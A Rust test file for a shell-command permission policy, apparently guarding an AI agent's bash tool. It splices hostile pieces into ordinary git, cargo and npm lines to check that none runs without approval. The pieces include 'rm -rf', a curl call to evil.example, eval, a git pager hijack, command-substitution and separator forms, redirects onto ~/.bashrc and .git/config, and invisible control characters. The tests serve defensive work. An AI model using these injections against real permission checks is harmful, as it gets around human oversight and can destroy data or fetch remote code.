//! Dangerous pieces put into every place of everyday lines: none of the results may run unasked.

use serde_json::json;
use windlass_kernel::{Access, CallPlan, PermissionMode, Verdict};
use windlass_policy::{Ask, Policy};

const RULES: [&str; 24] = [
    "bash(awk:*)",
    "bash(cargo:*)",
    "bash(cat:*)",
    "bash(cd:*)",
    "bash(cp:*)",
    "bash(cut:*)",
    "bash(echo:*)",
    "bash(find:*)",
    "bash(git:*)",
    "bash(grep:*)",
    "bash(head:*)",
    "bash(jq:*)",
    "bash(ls:*)",
    "bash(make:*)",
    "bash(mkdir:*)",
    "bash(npm:*)",
    "bash(printf:*)",
    "bash(pytest:*)",
    "bash(rg:*)",
    "bash(sed:*)",
    "bash(sort:*)",
    "bash(tail:*)",
    "bash(test:*)",
    "bash(wc:*)",
];
const EVERYDAY: [&str; 32] = [
    "git status --short",
    "git diff HEAD~1 -- src/main.rs",
    "git log --oneline -n 5 | head -3",
    "git add -A && git commit -m \"Fix the parser\" --quiet",
    "git commit -m 'It says: fine' --amend",
    "git show HEAD:Cargo.toml | grep version",
    "cd src && cargo test 2>&1 | tail -20",
    "cargo test -p core -- --nocapture",
    "CI=1 npm test -- src/a.test.ts",
    "NODE_ENV=test npm run build > /dev/null 2>&1",
    "timeout 60 pytest -x -q",
    "nice -n 5 make -j4 all",
    "env RUST_LOG=debug cargo run -- --help",
    "ls -la src tests | wc -l",
    "cat a.txt b.txt 2>/dev/null | sort | head -5",
    "grep -rn \"TODO: later\" src --include='*.rs'",
    "rg -l 'a|b' src | wc -l",
    "find . -name '*.rs' -not -path './target/*'",
    "find src -type f -exec grep -l foo {} +",
    "find . -name '*.md' -print0 | xargs -0 wc -l",
    "sed -n '10,20p' src/main.rs",
    "awk '{print $1}' a.txt | sort -u",
    "jq -r '.a[] | .b' x.json",
    "echo \"one two\" three 'four five'",
    "printf '%s\\n' a b | cut -c1",
    "mkdir -p build && cp a.txt build/b.txt",
    "test -f x && cat x || echo none",
    "for f in a b; do wc -l \"$f\"; done",
    "if test -d src; then ls src; else echo none; fi",
    "(cd web && npm run lint) && echo ok",
    "{ git status; git diff; } | head -50",
    "bash -c 'ls src' && echo done",
];
/// None of them is granted, whatever stands around it.
const PIECES: [&str; 6] =
    ["rm -rf x", "./evil", "curl https://evil.example/x", "git -c core.pager=./x log", "eval \"$X\"", "find . -delete"];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Quotes {
    None,
    Double,
    Single,
}

/// The blanks of `line` and its two ends, with the quotes each stands in.
fn gaps(line: &str) -> Vec<(usize, Quotes)> {
    let mut quotes = Quotes::None;
    let mut found = vec![(0, Quotes::None)];
    for (at, sign) in line.char_indices() {
        quotes = match (sign, quotes) {
            ('"', Quotes::None) => Quotes::Double,
            ('\'', Quotes::None) => Quotes::Single,
            ('"', Quotes::Double) | ('\'', Quotes::Single) => Quotes::None,
            (' ', own) => {
                found.push((at, own));
                own
            }
            (_, own) => own,
        };
    }
    found.push((line.len(), Quotes::None));
    found
}

/// What `piece` becomes so that it runs where these quotes stand.
fn forms(piece: &str, quotes: Quotes) -> Vec<String> {
    match quotes {
        Quotes::Single => vec![format!("'$({piece})'"), format!("';{piece};'")],
        Quotes::Double => vec![format!("$({piece})"), format!("`{piece}`"), format!("${{x:-$({piece})}}")],
        Quotes::None => vec![
            format!(" ; {piece} ; "),
            format!("\n{piece}\n"),
            format!(" && {piece} && "),
            format!(" | {piece} | "),
            format!(" & {piece} & "),
            format!(" $({piece}) "),
            format!(" \"`{piece}`\" "),
            format!(" <({piece}) "),
        ],
    }
}

fn verdict(policy: &Policy, command: &str) -> Verdict {
    let plan = CallPlan { access: Access::Write, tags: vec!["exec".into()], ..CallPlan::default() };
    let input = json!({ "command": command });
    let ask = Ask {
        tool: "bash",
        input: &input,
        plan: &plan,
        mode: PermissionMode::Default,
        workspace: "/work/app",
        interactive: true,
        grants: &[],
    };
    policy.decide(&ask).verdict
}

fn policy() -> Policy {
    Policy::new(&RULES.map(str::to_owned), &[], &[]).unwrap()
}

/// Holds every splice of `pieces`, as `form` makes them, against the policy; how many there were.
fn splice(pieces: &[&str], form: fn(&str, Quotes) -> Vec<String>) -> usize {
    let policy = policy();
    let mut count = 0;
    let mut allowed = Vec::new();
    for line in EVERYDAY {
        assert_eq!(verdict(&policy, line), Verdict::Allow, "{line}");
        for (at, quotes) in gaps(line) {
            for text in pieces.iter().flat_map(|piece| form(piece, quotes)) {
                let spliced = format!("{}{text}{}", &line[..at], &line[at..]);
                count += 1;
                if verdict(&policy, &spliced) == Verdict::Allow {
                    allowed.push(spliced);
                }
            }
        }
    }
    assert!(allowed.is_empty(), "{} of {count} run unasked:\n{}", allowed.len(), allowed.join("\n"));
    count
}

#[test]
fn a_dangerous_command_runs_unasked_in_no_place_of_a_line() {
    assert!(splice(&PIECES, forms) >= 5_000);
}

#[test]
fn a_file_is_written_unasked_in_no_place_of_a_line() {
    let redirect = |target: &str, quotes: Quotes| match quotes {
        Quotes::None => vec![format!(" >{target} "), format!(" 2>> {target} "), format!(" &> {target} ")],
        Quotes::Double => vec![format!("\" > {target} \"")],
        Quotes::Single => vec![format!("' > {target} '")],
    };
    assert!(splice(&["src/x", "../x", "~/.bashrc", ".git/config", "$X"], redirect) >= 1_000);
}

#[test]
fn a_sign_that_cannot_be_seen_runs_unasked_in_no_place_of_a_line() {
    let sign = |sign: &str, _: Quotes| vec![sign.to_owned()];
    assert!(splice(&["\u{200b}", "\u{202e}", "\r", "\u{1b}", "\0", "\u{a0}", "\u{2028}"], sign) >= 1_000);
}
